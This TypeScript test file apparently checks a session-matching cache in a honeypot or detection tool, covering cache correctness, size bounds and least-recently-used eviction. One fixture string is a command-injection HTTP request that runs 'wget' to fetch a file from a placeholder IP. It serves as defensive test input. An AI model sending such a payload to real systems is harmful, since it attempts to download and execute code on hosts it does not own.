// What is remembered is what would be said again, about no other session, and never more than the bound.

import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import type { SignatureHit } from '../../model/insight.ts';
import { sampleSession } from '../../record/store-contract.ts';
import type { SessionView } from '../session-view.ts';
import { RememberedMatches } from './remembered-matches.ts';

const viewOf = (input: string, more: Partial<SessionView['session']> = {}, output = ''): SessionView => ({
  session: { ...sampleSession(1e15), ...more },
  input: Buffer.from(input),
  output: Buffer.from(output),
});

/** Those that rules name. */
const ports = new Set([8, 80]);

/** Names everything an answer may depend on. */
const describeView = ({ session, input, output }: SessionView): SignatureHit[] => [
  {
    rule: JSON.stringify([
      session.transport,
      session.protocol,
      ports.has(session.destination.port) && session.destination.port,
      session.userName,
      session.password,
      session.tls,
      Buffer.from(input).toString('latin1'),
      Buffer.from(output).toString('latin1'),
    ]),
    name: '',
    intention: 'recon',
    severity: 'info',
    tags: [],
    cves: [],
    techniques: [],
    captures: {},
  },
];

const payload = 'GET /shell?cd+/tmp;wget+http://192.0.2.1/x HTTP/1.1\r\nHost: a\r\n\r\n';

describe('RememberedMatches', () => {
  it('says of each session what would be said without it', () => {
    const word = fc.constantFrom(undefined, '', 'a', 'b', '"a');
    const view = fc
      .record({
        input: fc.constantFrom('', 'short', payload, `${payload}x`),
        output: fc.constantFrom('', 'one', 'two'),
        transport: fc.constantFrom('tcp' as const, 'udp' as const),
        port: fc.constantFrom(8, 80, 8080, 8081),
        protocol: word,
        userName: word,
        password: word,
        tls: fc.option(
          fc.record({
            version: fc.constant('1.3'),
            serverName: word,
            ja3: fc.constantFrom('x', 'y'),
            ja4: fc.constantFrom('x', 'y'),
          }),
          {
            nil: undefined,
          },
        ),
      })
      .map(({ input, output, port, ...more }) => viewOf(input, { ...more, destination: { ip: '198.51.100.1', port } }, output));
    fc.assert(
      fc.property(fc.array(view, { maxLength: 60 }), (views) => {
        const remembered = new RememberedMatches(describeView, ports);
        // Twice before it is remembered, and once after.
        for (const one of [...views, ...views, ...views]) assert.deepEqual(remembered.match(one), describeView(one));
      }),
      { numRuns: 200 },
    );
  });

  it('looks twice at what comes again and again, and remembers nothing that is too short to be worth it', () => {
    let looks = 0;
    const remembered = new RememberedMatches((view) => {
      looks += 1;
      return describeView(view);
    }, ports);
    for (let turn = 0; turn < 100; turn += 1)
      remembered.match(viewOf(payload, { source: { ip: `192.0.2.${turn}`, port: turn } }));
    assert.deepEqual([looks, remembered.found], [2, 98]);
    remembered.match(viewOf('GET /'));
    remembered.match(viewOf('GET /'));
    assert.deepEqual([looks, remembered.size], [4, 1]);
  });

  it('keeps no answer whose length attackers chose', () => {
    const long = 'x'.repeat(600);
    const remembered = new RememberedMatches((view) => [{ ...describeView(view)[0], captures: { url: long } }], ports);
    for (let turn = 0; turn < 3; turn += 1) assert.equal(remembered.match(viewOf(payload))[0].captures.url, long);
    assert.deepEqual([remembered.size, remembered.found], [0, 0]);
  });

  it('forgets what was not used for longest', () => {
    const remembered = new RememberedMatches(describeView, ports);
    for (let turn = 0; turn < 20_000; turn += 1) {
      remembered.match(viewOf(`${payload}${turn}`));
      remembered.match(viewOf(`${payload}${turn}`));
      remembered.match(viewOf(payload));
    }
    assert.equal(remembered.size, 16_384);
    assert.equal(remembered.found, 19_998);
  });
});
